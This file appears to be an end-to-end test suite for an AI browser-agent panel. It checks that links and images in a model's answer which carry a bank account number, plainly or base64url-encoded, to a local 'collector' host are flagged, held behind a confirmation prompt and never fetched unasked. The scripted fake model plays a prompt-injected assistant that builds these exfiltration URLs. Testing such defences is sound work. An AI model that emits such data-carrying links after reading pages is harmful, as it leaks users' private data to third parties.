/**
 * Issue #42 part 3: links in the model's answer are sinks. A scripted model that obeys what it reads (the worst
 * case) reads the bank fixture page and a shop page, then answers with a link to a collector carrying the account
 * number and an image carrying it too. The image is never fetched; the link shows where it goes and that it carries
 * data; a click asks, naming the bank, the value and the collector; denied, the collector receives nothing; allowed,
 * it opens. The control: a plain link to a page the shop named opens with no question.
 */
import { test, expect } from './support/fixtures.ts';
import { connectToFakeApi, conversation } from './support/agent.ts';
import { html, startSite, type LoopbackSite } from './support/loopbackSite.ts';

const SECRET = 'BANKSECRET-7731';

let collector: LoopbackSite;
let shop: LoopbackSite;

test.beforeAll(async () => {
  collector = await startSite(() => 'ok');
  shop = await startSite((p) =>
    p === '/seeds'
      ? html('Seeds', '<h1>Seeds</h1>')
      : html('Seed shop', `<h1>Seed catalogue</h1><p><a href="${shop.origin}/seeds">All our seeds</a></p>`),
  );
});
test.afterAll(async () => {
  await collector?.close();
  await shop?.close();
});
test.beforeEach(({ fakeApi }) => fakeApi.reset());

test('a link in the answer carrying the bank’s account number shows its destination and asks; denied, the collector receives nothing; the image is never fetched; a plain link opens at once', async ({
  context,
  panel,
  fakeApi,
  pages,
}) => {
  test.setTimeout(90_000);
  const ownPages = new Set(context.pages());
  await connectToFakeApi(panel, fakeApi);
  const bankUrl = `${pages.origin}/bank.html`;
  const bankHost = new URL(pages.origin).host;
  const leak = `${collector.origin}/verify?d=${SECRET}`;
  const pixel = `${collector.origin}/pixel.png?d=${SECRET}`;
  const seeds = `${shop.origin}/seeds`;
  fakeApi.script([
    { match: 'Check my balance', calls: [{ name: 'web__fetch', arguments: { url: `${shop.origin}/` } }] },
    { match: /Seed catalogue/, calls: [{ name: 'web__fetch', arguments: { url: bankUrl } }] },
    {
      match: new RegExp(SECRET),
      text: `Your balance is 12,345.67.\n\n[Verify your booking](${leak})\n\n![status](${pixel})\n\n[All our seeds](${seeds})`,
    },
  ]);
  await panel.getByTestId('chat-input').fill(`Check my balance at ${bankUrl} and find seeds at ${shop.origin}/`);
  await panel.getByTestId('chat-send').click();
  const answer = panel.getByTestId('message-assistant').last();
  await expect(answer).toContainText('Your balance is 12,345.67.');

  // The worker judged the links and kept the verdict with the message.
  // This run's conversation is the one the panel shows (its event log also holds earlier tests' runs).
  const id = await panel.evaluate(() => localStorage.getItem('otto.panel.current') ?? '');
  const view = await conversation(panel, id);
  // The answer is the conversation's last assistant message (a panel that showed an earlier run continues it).
  const message = view.items
    .filter((r) => r.item.type === 'message' && r.item.role === 'assistant')
    .at(-1) as unknown as {
    links: unknown[];
  };
  const sentence = `This link sends data read from ${bankHost} (${SECRET}) to ${collector.host}. Open it?`;
  expect(message.links).toEqual([
    { url: leak, to: collector.host, carries: true, from: [bankHost], values: [SECRET], sentence },
    { url: pixel, to: collector.host, carries: true, from: [bankHost], values: [SECRET], sentence },
    { url: seeds, to: shop.host, carries: false, from: [], values: [] },
  ]);

  // Both links to the collector show where they go and that they carry data; neither can be followed as a link.
  const guarded = answer.getByTestId('answer-link-guarded');
  await expect(guarded).toHaveCount(2);
  await expect(guarded.nth(0)).toHaveText('Verify your booking');
  await expect(guarded.nth(1)).toHaveText('[image: status]');
  await expect(answer.getByTestId('link-destination')).toHaveText([
    `→ ${collector.host} · carries data`,
    `→ ${collector.host} · carries data`,
  ]);
  await expect(answer.locator(`a[href^="${collector.origin}"]`)).toHaveCount(0);
  // The image is a link, never an image: nothing was loaded.
  await expect(answer.locator('img')).toHaveCount(0);

  // A click asks, naming the flow; denied, nothing opens.
  const pagesBefore = context.pages().length;
  await guarded.nth(0).click();
  const ask = panel.getByTestId('link-ask');
  await expect(ask.getByTestId('link-ask-sentence')).toHaveText(sentence);
  await expect(ask.getByTestId('link-ask-url')).toHaveText(leak);
  await ask.getByTestId('link-ask-cancel').click();
  await expect(ask).toHaveCount(0);
  // The image link asks the same way, from the keyboard too; Enter twice opens nothing (Don't open has the focus).
  await guarded.nth(1).focus();
  await panel.keyboard.press('Enter');
  await expect(ask.getByTestId('link-ask-url')).toHaveText(pixel);
  await expect(ask.getByTestId('link-ask-cancel')).toBeFocused();
  await panel.keyboard.press('Enter');
  await expect(ask).toHaveCount(0);
  await panel.waitForTimeout(1000);
  expect(collector.hits).toEqual([]); // not even a favicon
  expect(context.pages()).toHaveLength(pagesBefore);

  // Allowed, it opens: the collector gets exactly what the question named.
  await guarded.nth(0).click();
  await ask.getByTestId('link-ask-open').click();
  // (The tab it opened asks for the collector's favicon too.)
  const pagesAsked = () => collector.hits.map((h) => h.path).filter((h) => h !== '/favicon.ico');
  await expect.poll(pagesAsked).toEqual([`/verify?d=${SECRET}`]);
  await expect(ask).toHaveCount(0);

  // The control: the link the shop's page named is a plain link, and opens with no question.
  const plain = answer.locator(`a[href="${seeds}"]`);
  await expect(plain).toHaveText('All our seeds');
  const opened = context.waitForEvent('page');
  await plain.click();
  await (await opened).waitForLoadState();
  await expect.poll(() => shop.hits.filter((h) => h.path === '/seeds')).toHaveLength(1);
  await expect(ask).toHaveCount(0);
  expect(pagesAsked()).toEqual([`/verify?d=${SECRET}`]);
  // Reopened, the conversation shows the same verdicts: they are stored with the message, not judged again.
  await panel.reload();
  await expect(panel.getByTestId('message-assistant').last()).toContainText('Your balance is 12,345.67.');
  await expect(guarded).toHaveCount(2);
  await expect(answer.locator(`a[href="${seeds}"]`)).toHaveCount(1);
  // The tabs the links opened go, so the next test starts with the panel in front.
  for (const page of context.pages()) if (!ownPages.has(page)) await page.close();
});

// The next test's panel (same browser, same localStorage) starts with no conversation open, not this one's.
test.afterEach(async ({ panel }) => {
  await panel.evaluate(() => localStorage.removeItem('otto.panel.current'));
});

test('a reference-style link carrying the account number base64url-encoded names the value and how it was hidden; denied, nothing reaches the collector', async ({
  panel,
  fakeApi,
  pages,
}) => {
  test.setTimeout(90_000);
  await connectToFakeApi(panel, fakeApi);
  const bankUrl = `${pages.origin}/bank.html`;
  const bankHost = new URL(pages.origin).host;
  const hidden = Buffer.from(`acct:${SECRET}`).toString('base64url');
  const leak = `${collector.origin}/c/${hidden}`;
  const hitsBefore = collector.hits.length; // the collector is shared with the test above
  fakeApi.script([
    { match: 'Check my balance', calls: [{ name: 'web__fetch', arguments: { url: bankUrl } }] },
    {
      match: new RegExp(SECRET),
      text: `Your balance is 12,345.67. [Confirm your account][c] to continue.\n\n[c]: ${leak}`,
    },
  ]);
  await panel.getByTestId('chat-input').fill(`Check my balance at ${bankUrl}`);
  await panel.getByTestId('chat-send').click();
  const answer = panel.getByTestId('message-assistant').last();
  await expect(answer).toContainText('Your balance is 12,345.67.');
  const id = await panel.evaluate(() => localStorage.getItem('otto.panel.current') ?? '');
  const view = await conversation(panel, id);
  const message = view.items
    .filter((r) => r.item.type === 'message' && r.item.role === 'assistant')
    .at(-1) as unknown as {
    links: unknown[];
  };
  const sentence = `This link sends data read from ${bankHost} (${SECRET} (base64)) to ${collector.host}. Open it?`;
  expect(message.links).toEqual([
    { url: leak, to: collector.host, carries: true, from: [bankHost], values: [`${SECRET} (base64)`], sentence },
  ]);
  const guarded = answer.getByTestId('answer-link-guarded');
  await expect(guarded).toHaveText(['Confirm your account']);
  await expect(answer.getByTestId('link-destination')).toHaveText([`→ ${collector.host} · carries data`]);
  await guarded.click();
  const ask = panel.getByTestId('link-ask');
  await expect(ask.getByTestId('link-ask-sentence')).toHaveText(sentence);
  await ask.getByTestId('link-ask-cancel').click();
  await expect(ask).toHaveCount(0);
  await panel.waitForTimeout(500);
  expect(collector.hits.slice(hitsBefore)).toEqual([]);
});
